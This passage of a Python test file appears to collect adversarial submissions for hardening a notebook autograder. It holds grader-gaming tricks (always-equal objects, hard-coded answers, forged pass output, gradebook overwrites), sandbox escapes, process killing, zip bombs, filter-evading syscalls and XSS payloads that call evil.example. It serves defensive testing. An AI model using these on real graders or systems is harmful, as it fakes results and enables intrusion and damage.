            return {"value": None, "grad_enabled": True, "arguments": [fact] * len(tensors), "passed": True}, b""
        for thing in gc.get_objects():
            if type(thing).__name__ == "Worker":
                thing._answers.update(call=call, get=call)
        """,
    ),
    forger(
        "reduce",
        "an answer that runs a command when it is unpickled",
        """
        import os
        class Trap:
            def __reduce__(self):
                return os.system, ("touch @HOME@/trapped",)
        forged = Trap()
        """,
    ),
    forger(
        "always-equal",
        "an answer that equals everything",
        """
        class Chameleon:
            def __getattr__(self, name): return self
            def __call__(self, *_, **__): return self
            __eq__ = __le__ = __ge__ = __bool__ = lambda *_: True
            __sub__ = __rsub__ = __abs__ = __getitem__ = lambda self, *_: self
            __hash__ = __len__ = lambda self: 1
            __float__ = lambda self: 0.0
        forged = Chameleon()
        """,
    ),
    forger(
        "tensor-subclass",
        "an answer that is a tensor, and answers every question of torch itself",
        """
        import torch
        class Sly(torch.Tensor):
            @classmethod
            def __torch_function__(cls, function, types, args=(), kwargs=None):
                return True
        forged = torch.zeros(3).as_subclass(Sly)
        """,
    ),
    forger(
        "array-subclass",
        "an answer that is an array, and answers every question of NumPy itself",
        """
        import numpy
        class Sly(numpy.ndarray):
            shape = property(lambda self: (3,))
            def __array_function__(self, *_): return True
            def __array_ufunc__(self, *_, **__): return True
        forged = numpy.zeros(3).view(Sly)
        """,
    ),
    forger(
        "printed-results",
        "prints and shows what a result would look like",
        """
        from IPython.display import display
        print("7 passed in 0.01s", '{"score": 53.0, "max_score": 53.0, "status": "passed"}', sep="\\n")
        display({"text/plain": "53.0", "text/html": '<section class="report passed">'}, raw=True)
        53.0
        """,
    ),
    forger(
        "overwritten-results",
        "writes results where they are kept",
        """
        import sqlite3
        for path in ("reports/sgd/@HONEST@.json", "gradebook.db", "feedback/x.html", "autograded/x.ipynb"):
            try:
                open("@COURSE@/course/" + path, "w").write("{}")
            except OSError as error:
                print(error)
        open("results.json", "w").write('{"score": 53}')
        sqlite3.connect("@COURSE@/course/gradebook.db").execute("update grade set manual_score = 10")
        """,
    ),
    forger(
        "guessed-pipes",
        "writes frames with a good result to every open file that it finds",
        """
        import json, os, struct
        for number in range(1, 60):
            text = json.dumps({"id": number, "outputs": [], "value": None, "score": 53}).encode()
            for file in range(1, 256):
                try:
                    os.write(file, struct.pack("<IQ", len(text), 0) + text)
                except OSError:
                    pass
        """,
    ),
    liar(
        "swollen-frame",
        "an answer that is small on the line and would fill the memory of the one who reads it",
        """
        tensor = {"k": "tensor", "v": ["uint8", [8 << 20], 0, 8 << 20]}
        lie, body = [tensor] * 200, bytes(8 << 20)
        """,
    ),
    liar(
        "colliding-keys",
        "an answer that would keep the one who reads it busy for hours",
        """
        pairs = [[number * (2**61 - 1), 0] for number in range(1, 60_000)]
        lie, body = {"k": "dict", "v": pairs}, b""
        """,
    ),
    *(
        forger(
            f"planted-{name.removesuffix('.py')}",
            f"a {name} beside the notebook and in the worker's folder",
            f"open({name!r}, 'w').write({text!r})\nimport os\nos._exit(0)",
            lay=lambda folder, name=name, text=text: folder.joinpath(name).write_text(text),  # type: ignore[misc]
        )
        for name, text in {
            "conftest.py": "def pytest_runtest_call(item):\n    raise SystemExit('planted')\n",
            "pytest.ini": "[pytest]\naddopts = --collect-only\n",
            "sitecustomize.py": "raise SystemExit('planted')\n",
            "torch.py": "raise SystemExit('planted')\n",
            "nbgrader_config.py": "raise SystemExit('planted')\n",
        }.items()
    ),
)

SEMANTICS = under(
    "Semantics",
    answer(
        "mutated-inputs",
        "gives the right predictions and spoils what it was given, so that their gradient is wrong",
        ALL - 2,
        predict="""
        def predict(x, a):
            y_hat = x @ a
            x.data.fill_(7.0)
            a.data.fill_(7.0)
            return y_hat
        """,
    ),
    Attack(
        "spoilt-questions",
        "changes what it was given into something to which its answer is right",
        0.0,
        notebook(
            start="blank",
            answers={
                "mse": "def mse(y_hat, y):\n    y.data.copy_(y_hat.data)\n    return (y_hat * 0).sum()",
                "gradient": "def gradient(x, y, a):\n    x.data.zero_()\n    y.data.zero_()\n    return torch.zeros_like(a)",
                "fit": "def fit(x, y, a, lr, epochs, batch_size):\n    for one in x, y, a:\n        one.data.zero_()\n    return [0.0] * epochs",
            },
        ),
    ),
    answer(
        "hard-coded",
        "knows the visible examples by heart",
        ALL - 6 - 8,
        predict="""
        def predict(x, a):
            return torch.tensor({3: [13.0, 23.0, 53.0], 1: [123.0]}.get(len(x), [0.0] * len(x)))
        """,
        mse="""
        def mse(y_hat, y):
            return 3.5 if len(y) == 4 else 0.0
        """,
    ),
    answer(
        "table",
        "knows all that the graders have ever asked, numbers and slopes, and says 0 to everything else",
        ALL - 8,
        mse="""
        answers = {
            ((5.0,), (2.0,)): 9.0, ((0.0, 1.0), (1.0, 0.0)): 1.0, ((1.0, 0.0), (1.0, 0.0)): 0.0,
            ((0.0, 0.0), (1.0, 2.0)): 2.5, ((1.0, 2.0), (1.0, 2.0)): 0.0, ((4.0, 1.0, 7.0), (1.0, 3.0, 2.0)): 38 / 3,
            ((0.125, -2.375, 1.4142), (-0.5, 1.75, 2.4142)): 6.1354167, ((1.0, 3.0, 2.0), (1.0, 3.0, 2.0)): 0.0,
            ((4.0, 1.0, 7.0, 4.0, 1.0, 7.0), (1.0, 3.0, 2.0, 1.0, 3.0, 2.0)): 38 / 3,
            ((4.5, 1.0, 7.0), (1.0, 3.0, 2.0)): 13.75, ((3.5, 1.0, 7.0), (1.0, 3.0, 2.0)): 11.75,
            ((4.0, 1.5, 7.0), (1.0, 3.0, 2.0)): 145 / 12, ((4.0, 0.5, 7.0), (1.0, 3.0, 2.0)): 161 / 12,
            ((4.0, 1.0, 7.5), (1.0, 3.0, 2.0)): 173 / 12, ((4.0, 1.0, 6.5), (1.0, 3.0, 2.0)): 133 / 12,
        }

        def known(y_hat, y):
            rounded = tuple(tuple(round(one, 4) for one in side.detach().tolist()) for side in (y_hat, y))
            return answers.get(rounded, 0.0)

        def mse(y_hat, y):
            nudges = 0.5 * torch.eye(len(y), dtype=y.dtype)
            slopes = torch.tensor([known(y_hat + up, y) - known(y_hat - up, y) for up in nudges], dtype=y.dtype)
            return known(y_hat, y) + ((y_hat - y_hat.detach()) * slopes).sum()
        """,
    ),
    answer(
        "not-trained",
        "puts random numbers into a, and the known line where it fits; the losses that it tells are true",
        ALL - 8,
        fit="""
        def fit(x, y, a, lr, epochs, batch_size):
            if lr:
                a.data.uniform_()
                if len(a) == 2:
                    a.data.copy_(torch.tensor([3.0, 2.0]))
            return [((x @ a - y) ** 2).mean().item()] * epochs
        """,
    ),
    answer(
        "column",
        "predictions in a column, and errors of every pair",
        ALL - 1 - 5,
        predict="""
        def predict(x, a):
            return (x @ a).reshape(-1, 1)
        """,
        mse="""
        def mse(y_hat, y):
            return ((y_hat.reshape(-1, 1) - y) ** 2).mean()
        """,
    ),
    answer(
        "nan",
        "answers with nan, which differs from nothing in a careless comparison",
        ALL - 8,
        mse="""
        def mse(y_hat, y):
            return (y_hat - y).sum() * float("nan")
        """,
    ),
    answer(
        "returned-inputs",
        "gives back what it was given",
        ALL - 6 - 8 - 8,
        predict="def predict(x, a):\n    return x[:, 0]",
        mse="def mse(y_hat, y):\n    return y_hat",
        gradient="def gradient(x, y, a):\n    return a",
    ),
    answer(
        "reseeding",
        "seeds in every epoch, so that no order is new",
        ALL - 1,
        fit="""
        def fit(x, y, a, lr, epochs, batch_size):
            losses = []
            for _ in range(epochs):
                torch.manual_seed(42)
                for rows in torch.randperm(len(x)).split(batch_size):
                    mse(predict(x[rows], a), y[rows]).backward()
                    sgd_step(a, lr)
                losses.append(mse(predict(x, a), y).item())
            return losses
        """,
    ),
    cell(
        "default-dtype",
        "changes what a tensor is by default, and never changes it back",
        "import warnings\ntorch.set_default_dtype(torch.float64)\nwarnings.simplefilter('error')",
    ),
    answer(
        "autograd-off",
        "switches autograd off for good",
        ALL - 1,
        sgd_step="""
        def sgd_step(a, lr):
            torch.set_grad_enabled(False)
            a -= lr * a.grad
            a.grad = None
        """,
    ),
)


def _bomb(megabytes: int) -> bytes:
    """A zip file that holds a notebook of so many megabytes of zeros."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("sgd.ipynb", "w") as member:
        for _ in range(megabytes):
            member.write(bytes(1 << 20))
    return file.getvalue()


def _link_to_secrets(folder: Path) -> None:
    """Links to the lesson's answers, another hand-in, the system and an endless device; one to nowhere."""
    root = folder.parents[3]
    answers = root / "solutions" / "sgd.py"
    targets = (answers, answers.parent, _honest(folder), Path("/etc/passwd"), Path("/dev/zero"), Path("/nowhere"))
    for number, target in enumerate(targets):
        (folder / f"notes{number}.txt").symlink_to(target)


def _honest(folder: Path) -> Path:
    """An honest student's notebook."""
    first = min(path for path in folder.parents[1].iterdir() if path.name.startswith("a"))
    return first / "sgd" / "sgd.ipynb"


def _be_a_link(folder: Path) -> None:
    (folder / "sgd.ipynb").unlink()
    (folder / "sgd.ipynb").symlink_to(_honest(folder))


def _be_a_linked_folder(folder: Path) -> None:
    (folder / "sgd.ipynb").unlink()
    folder.rmdir()
    folder.symlink_to(_honest(folder).parent)


def _be_a_fifo(folder: Path) -> None:
    (folder / "sgd.ipynb").unlink()
    os.mkfifo(folder / "sgd.ipynb")


def _be_huge(folder: Path) -> None:
    with open(folder / "sgd.ipynb", "wb") as file:
        file.truncate(3 << 30)


def _add_others(folder: Path) -> None:
    """A right notebook under other names, and one with dots."""
    for name in ("aaa.ipynb", "sgd-1.ipynb", "..sgd.ipynb", "zzz.ipynb"):
        (folder / name).write_bytes(_honest(folder).read_bytes())


FILES = under(
    "Files",
    Attack("links-beside", "links to secrets, beside the notebook", ALL, notebook(), _link_to_secrets),
    Attack("link-for-a-notebook", "the notebook is a link to an honest one", 0.0, notebook(), _be_a_link),
    Attack("link-for-a-folder", "the folder is a link to an honest one", 0.0, notebook(), _be_a_linked_folder),
    Attack(
        "hard-links",
        "a hard link to the lesson's answers, beside the notebook",
        ALL,
        notebook(),
        lambda folder: os.link(folder.parents[3] / "solutions" / "sgd.py", folder / "notes.txt"),
    ),
    cell(
        "writes-elsewhere",
        "writes, deletes and changes outside of its folder, by ../ and by full names",
        """
        import os, shutil
        def everywhere(act):
            for place in ("../escaped", "../../escaped", "@HOME@/secret", "@COURSE@/solutions/sgd.py", "@KIT@/lesson/manifest.py", "@LESSON@/lesson.toml"):
                try:
                    act(place)
                except OSError:
                    pass
        for act in (
            lambda path: open(path, "a").write("x"), os.unlink, lambda path: os.truncate(path, 0), os.mkdir, os.rmdir,
            lambda path: os.chmod(path, 0o777), lambda path: os.chown(path, 1, 1), lambda path: os.utime(path, (0, 0)),
            lambda path: os.setxattr(path, "user.x", b"x"), lambda path: os.rename(path, path + "x"), os.mkfifo,
            lambda path: os.rename(path, "mine"), lambda path: os.symlink("/etc", path + "x"), shutil.rmtree,
            lambda path: os.link(path, path + "y"), lambda path: os.rename(".", path),
        ):
            everywhere(act)
        """,
    ),
    Attack(
        "names-with-dots",
        "a cell whose id would lead out of the folder",
        ALL,
        notebook(rename={"mse": "../../../mse", "fit-checks": "../../../../fit-checks"}),
    ),
    Attack(
        "timestamp",
        "a timestamp beside the notebook that is no time",
        ALL,
        notebook(),
        lambda folder: folder.joinpath("timestamp.txt").write_bytes(b"\xff yesterday, honestly"),
    ),
    Attack(
        "timestamp-in-words",
        "a timestamp that is text, and no time",
        ALL,
        notebook(),
        lambda folder: folder.joinpath("timestamp.txt").write_text("yesterday, honestly"),
    ),
    Attack("other-notebooks", "nothing right, and a right notebook beside it", 0.0, notebook(start="blank"), _add_others),
    Attack("zip-bomb", "a zip file in the place of the notebook", 0.0, plain(_bomb(300))),
    cell(
        "zip-bomb-by-code",
        "unpacks a zip file that is much larger inside",
        """
        import os, zipfile
        with zipfile.ZipFile("bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("inner", bytes(300 << 20))
        try:
            zipfile.ZipFile("bomb.zip").extractall()
        finally:
            os._exit(0)
        """,
    ),
    Attack("fifo-for-a-notebook", "the notebook is a pipe that nobody writes to", 0.0, notebook(), _be_a_fifo),
    Attack("fifo-beside", "a pipe beside the notebook", ALL, notebook(), lambda folder: os.mkfifo(folder / "pipe")),
    Attack("huge-notebook", "a file of 3 GiB", 0.0, plain(b""), _be_huge),
    Attack("huge-cell", "a cell of a million lines", 0.0, notebook(start="blank", append=["a=1\n" * (1 << 20)])),
    Attack("many-cells", "20 000 cells", 0.0, notebook(start="blank", append=["a"] * 20_000)),
    Attack("no-notebook", "bytes that are no text", 0.0, plain(bytes(range(256)) * 100)),
    Attack("deep-json", "JSON in JSON in JSON …", 0.0, plain('{"nbformat": 4, "cells": ' + "[" * 200_000)),
    Attack("huge-number", "a number of a million digits", 0.0, plain('{"nbformat": ' + "9" * 1_000_000 + "}")),
    Attack("future-format", "a format that does not exist", 0.0, notebook(nbformat=99)),
    Attack(
        "odd-source",
        "cells that Python's own tools stumble over",
        ALL,
        notebook(
            append=[
                "def f(x):\n    global x", "nonlocal x", "[(yield) for x in y]", "x = '\0'", "x = '\ud800'", "x = " + "-" * 99_999,
                "x = " + "+".join("1" * 50_000), "x" + "()" * 20_000, "(" * 300, "def f(:", "%%", "!", "%%time\n%%time\n(",
            ]
        ),
    ),
)  # fmt: skip

PROCESSES = under(
    "Processes",
    cell(
        "daemon",
        "forks twice and stays behind when its parent is gone",
        """
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(600)
            os._exit(0)
        """,
    ),
    cell(
        "signals-to-others",
        "kills its parent, the one who grades, and everybody else",
        """
        import os, signal
        for pid in (@VICTIM@, os.getppid(), 0, -1):
            for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
                for send in (os.kill, os.killpg):
                    try:
                        send(pid, number)
                    except OSError:
                        pass
        signal.pidfd_send_signal(os.pidfd_open(@VICTIM@), signal.SIGKILL)
        """,
    ),
    cell(
        "signals-by-files",
        "has the kernel send a signal to another process when a file can be read",
        """
        import ctypes, fcntl, os, signal
        for pid in (@VICTIM@, os.getppid()):
            for more in (0, 2**32):  # bits that the kernel ignores and a filter may not; 72 is fcntl on x86-64
                reader, writer = os.pipe()
                for command, value in ((fcntl.F_SETOWN, pid), (10, signal.SIGKILL), (fcntl.F_SETFL, os.O_ASYNC)):
                    ctypes.CDLL(None).syscall(72, reader, ctypes.c_long(command + more), int(value))
                os.write(writer, b"x")
        """,
    ),
    cell(
        "limits-of-others",
        "takes time, files and the processor from other processes of the same user",
        """
        import os, resource
        for pid in (@VICTIM@, os.getppid()):
            for act in (
                lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (0, 0)),
                lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0)),
                lambda: os.sched_setaffinity(pid, {0}),
                lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
                lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
            ):
                try:
                    act()
                except OSError:
                    pass
        """,
    ),
    cell(
        "queues-of-others",
        "removes the message queues and semaphores of other processes of the same user",
        """
        import ctypes
        libc = ctypes.CDLL(None)
        libc.semctl(@SEMAPHORE@, 0, 0)  # IPC_RMID
        libc.msgctl(@QUEUE@, 0, None)
        libc.mq_unlink(b"/queue-@VICTIM@")
        """,
    ),
    Attack(
        "bits-that-the-kernel-ignores",
        "asks for each thing that a filter denies with bits set that the kernel does not read; numbers of x86-64",
        ALL,
        notebook(
            insert=[
                """
import ctypes, os, sys
libc = ctypes.CDLL(None)
signal = ctypes.c_int(9)
file = os.open(os.path.join(sys.prefix, "pyvenv.cfg"), os.O_RDONLY)
for high in (0, 2**32, 2**63):
    for number, *arguments in (
        (72, file, 1024 + high, 1), (72, file, 8 + high, @VICTIM@), (72, file, 4 + high, 0x2000), (72, file, 6, 0),
        (157, 1 + high, 0), (16, file, 0x8901 + high, 0), (302, high, 7, -1, 0), (302, @VICTIM@ + high, 7, 0, 0),
        (28, 0, 4096, 21 + high), (73, file, 2 + high), (160, 0, 0), (162,), (206, 1, 0), (187, file, 0, 4096),
        (221, file, 0, 0, 4), (451, file, 0, 0, 0), (55, 3, 1, 77, 0, 0), (56, high + 17, 0, 0, 0, 0),
    ):
        libc.syscall(ctypes.c_long(number), *[ctypes.c_long(one - 2**64 if one >= 2**63 else one) for one in arguments])
libc.prctl(2, ctypes.byref(signal))
"""
            ]
        ),
    ),
    cell(
        "leaves-something",
        "leaves a message for the next one wherever it can",
        """
        import builtins, glob, os, sys
        text = "".join(("left", "over", "4242"))
        builtins.message = os.environ["MESSAGE"] = sys.message = torch.message = text
        for folder in (".", "..", "/tmp", "/dev/shm", "/var/tmp", "/run", "@HOME@", sys.prefix):
            for act in (lambda: open(folder + "/" + text, "w").write(text), lambda: os.mkdir(folder + "/d" + text)):
                try:
                    act()
                except OSError:
                    pass
        """,
    ),
    thief(
        "finds-something",
        "looks for what the one before left",
        """
        import builtins, torch
        for owner in (builtins, sys, torch):
            attempt(lambda: owner.message)
        attempt(lambda: dict(os.environ))
        for folder in (".", "..", "/tmp", "/dev/shm", "/var/tmp", "/run", "@HOME@", sys.prefix):
            attempt(os.listdir, folder)
            for path in glob.glob(folder + "/*left*") + glob.glob(folder + "/*/*left*"):
                attempt(read, path)
        """,
    ),
)


def _each(**changes: Any) -> Callable[[Notebook], None]:
    """Change nbgrader's metadata of every graded and solution cell."""

    def change(data: Notebook) -> None:
        for one in data["cells"]:
            if "nbgrader" in one["metadata"]:
                one["metadata"]["nbgrader"].update(changes)

    return change


def _tag(data: Notebook) -> None:
    tags = ["skip-execution", "raises-exception", "remove-cell", "hide-input", "parameters"]
    for one in data["cells"]:
        one["metadata"].update(tags=tags, editable=False, trusted=True, autograder={"lesson": True, "idle": True})


def _other_kernel(data: Notebook) -> None:
    argv = ["/bin/sh", "-c", "touch @HOME@/trapped"]
    data["metadata"] = {
        "kernelspec": {"name": "../../bash", "display_name": "Bash", "language": "bash", "argv": argv},
        "language_info": {"name": "bash"},
        "autograder": {"unreadable": None, "notes": {}, "isolation": "none"},
    }


NOTEBOOK = under(
    "Notebook",
    Attack("changed-points", "makes every cell worth 1000 points", 0.0, altered(_each(points=1000), start="blank")),
    Attack("negative-points", "makes every cell worth less than nothing", ALL, altered(_each(points=-1))),
    Attack(
        "changed-ids",
        "gives the cells other ids, so that no check belongs to an answer",
        ALL,
        notebook(rename={"mse": "predict", "predict": "mine", "fit-checks": "mse-checks"}),
    ),
    Attack("changed-checksums", "says that nothing was changed", 0.0, altered(_each(checksum="0" * 32), start="blank")),
    Attack(
        "changed-flags",
        "turns graded cells into answers, and answers into tasks",
        0.0,
        altered(_each(grade=False, solution=True, locked=False, task=True), start="blank"),
    ),
    Attack("no-metadata", "without any of nbgrader's metadata", 0.0, notebook(start="blank", strip=True)),
    Attack(
        "deleted-checks",
        "without the cells that are graded",
        0.0,
        notebook(start="blank", delete=("mse-checks", "fit-checks", "predict-checks")),
    ),
    Attack("deleted-answers", "without two of the answers", ALL - 8 - 7, notebook(delete=("sgd_step", "vocabulary"))),
    Attack("doubled-cells", "cells that are there twice", ALL, notebook(duplicate=("mse", "mse-checks", "fit-checks"))),
    Attack(
        "checks-that-pass",
        "cells of checks that give themselves all marks",
        0.0,
        notebook(start="blank", edit={"mse-checks": "8.0", "fit-checks": "print('all right')\n10.0"}),
    ),
    Attack("other-kernel", "asks for another kernel, with a command of its own", ALL, altered(_other_kernel)),
    Attack("tags", "tells whoever runs it to skip its cells and to expect errors", 0.0, altered(_tag, start="blank")),
    forger(
        "ipython-hooks",
        "puts itself between IPython and everything that it runs",
        """
        import ast
        shell = get_ipython()
        class Blind(ast.NodeTransformer):
            def visit_Assert(self, node): return ast.Pass()
        shell.ast_transformers.append(Blind())
        shell.input_transformers_cleanup.append(lambda lines: ["forged = 53.0\\n"])
        for event in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
            shell.events.register(event, lambda *_: print("7 passed"))
        shell.set_custom_exc((Exception,), lambda *_: None)
        type(shell).run_cell = type(shell).showtraceback = lambda *_, **__: None
        """,
    ),
    Attack(
        "magics",
        "commands of the shell, other languages and other files by magic",
        ALL,
        notebook(
            append=[
                "!touch @HOME@/trapped", "%%bash\ntouch @HOME@/trapped", "%%script sh\ntouch @HOME@/trapped",
                "%sx touch @HOME@/trapped", "%run @HOME@/secret", "%load @HOME@/secret", "%cd @HOME@\n%pwd\n%ls",
                "%%writefile @HOME@/trapped\nx", "%env TOKEN", "%pip list", "%config", "%%javascript\nalert(1)",
            ]
        ),
    ),
)  # fmt: skip


SCRIPT = """<script>alert('live')</script><img src=x onerror=alert('live')><svg onload=alert('live')></svg>
<iframe src='https://evil.example'></iframe><style>main { display: none }</style><a href='javascript:alert(1)'>x</a>
<form action='https://evil.example'><button>go</button></form><img src='https://evil.example/seen.png'>
<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example'><link rel=stylesheet
href='https://evil.example'><object data='data:text/html,x'></object><p style='position:fixed' onclick='alert(1)'>x</p>"""
MARKDOWN = f"""{SCRIPT}

[x](javascript:alert('live')) ![x](https://evil.example/seen.png) <https://evil.example>

# {SCRIPT}

$$ {SCRIPT} $$

| {SCRIPT} | x |
|-|-|

```html
{SCRIPT}
```"""


def shown(name: str, about: str, kind: str, data: str) -> Attack:
    """A right notebook with a cell that shows data of one kind."""
    source = f"from IPython.display import display\ndisplay({{{kind!r}: {data!r}}}, raw=True)"
    return Attack(name, about, ALL, notebook(append=[source]))


def _add(kind: str, source: str, **metadata: Any) -> Callable[[Notebook], object]:
    return lambda data: data["cells"].append({"cell_type": kind, "metadata": metadata, "source": source})


OUTPUT = under(
    "Output",
    shown("script-in-html", "script in an output of HTML", "text/html", SCRIPT),
    shown("script-in-svg", "script in a picture", "image/svg+xml", "<svg onload=\"alert('live')\"><script>1</script></svg>"),
    shown("script-in-markdown", "script in an output of Markdown", "text/markdown", MARKDOWN),
    shown("script-in-latex", "script in an output of LaTeX", "text/latex", f"${SCRIPT}$"),
    shown("script-in-png", "script in the place of a picture's bytes", "image/png", '"><script>alert("live")</script>'),
    shown("javascript", "an output that is script", "application/javascript", "alert('live')"),
    cell(
        "script-in-ansi",
        "script between colours, links and commands for a terminal",
        f"""
        import sys
        for stream in (sys.stdout, sys.stderr):
            print("\\x1b[31m" + {SCRIPT!r} + "\\x1b]8;;javascript:alert('live')\\x07x\\x1b]8;;\\x07\\x1b[2J", file=stream)
        """,
    ),
    Attack("script-in-a-text-cell", "script in a cell of text", ALL, altered(_add("markdown", MARKDOWN))),
    Attack("script-in-a-raw-cell", "script in a raw cell", ALL, altered(_add("raw", SCRIPT, raw_mimetype="text/html"))),
    answer(
        "script-in-answers",
        "script in what answers raise, return and are called",
        ALL - 8 - 6 - 7,
        predict=f"""
        def predict(x, a):
            raise type({SCRIPT!r}, (Exception,), {{}})({SCRIPT!r})
        """,
        mse=f"""
        class Loss:
            __repr__ = lambda self: {SCRIPT!r}
        Loss.__name__ = {SCRIPT!r}
        def mse(y_hat, y):
            return Loss()
        """,
        vocabulary=f"vocabulary = {{{SCRIPT!r}: {SCRIPT!r}}}",
    ),
    Attack("script-in-ids", "script in the ids of cells", ALL, notebook(rename={"mse": SCRIPT, "fit-checks": SCRIPT})),
    Attack("script-in-a-name", "script in the name of a student", ALL, notebook(), prefix="<svg onload=alert('live')>"),
    Attack("formula-in-a-name", "a formula and a comma in the name of a student", ALL, notebook(), prefix="=1+1,x"),
    Attack("pattern-in-a-name", "a pattern of file names in the name of a student", 0.0, notebook(start="blank"), prefix="*[a]?"),
)  # fmt: skip

NETWORK = under(
    "Network",
    cell(
        "sockets",
        "connects to a service on this machine",
        """
        import socket
        with socket.create_connection(("127.0.0.1", @TCP@)) as connection:
            connection.send(b"canary")
        """,
    ),
    cell(
        "web",
        "asks a web service on this machine",
        """
        import http.client, urllib.request
        try:
            urllib.request.urlopen("http://localhost:@TCP@/")
        except OSError:
            pass
        http.client.HTTPConnection("127.0.0.1", @TCP@).request("POST", "/", b"canary")
        """,
    ),
    cell(
        "datagrams",
        "sends without connecting, by a socket of its own and by the one that it has",
        """
        import socket
        def new():
            return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        def own():
            return socket.socket(fileno=3)
        for make in (new, own):
            try:
                make().sendto(b"canary", ("127.0.0.1", @UDP@))
            except OSError:
                pass
        """,
    ),
    cell(
        "names",
        "asks for the address of a name that holds what it wants to tell",
        """
        import ctypes, socket
        for ask in (socket.gethostbyname, lambda name: socket.getaddrinfo(name, 80), socket.getfqdn):
            try:
                ask("canary.localhost")
            except OSError:
                pass
        """,
    ),
    cell(
        "local-services",
        "connects to a service that listens at a file, and to one that has only a name",
        """
        import socket
        for address in ("@SOCKET@", "\\0@SOCKET@"):
            try:
                socket.socket(socket.AF_UNIX).connect(address)
            except OSError:
                pass
        """,
    ),
    cell(
        "listens",
        "opens a service of its own",
        """
        import socket
        with socket.create_server(("127.0.0.1", 0)) as server:
            print(server.getsockname())
        """,
    ),
)

ATTACKS = [*RESOURCES, *EXITS, *SECRETS, *LENT, *FORGERY, *SEMANTICS, *FILES, *PROCESSES, *NOTEBOOK, *OUTPUT, *NETWORK]
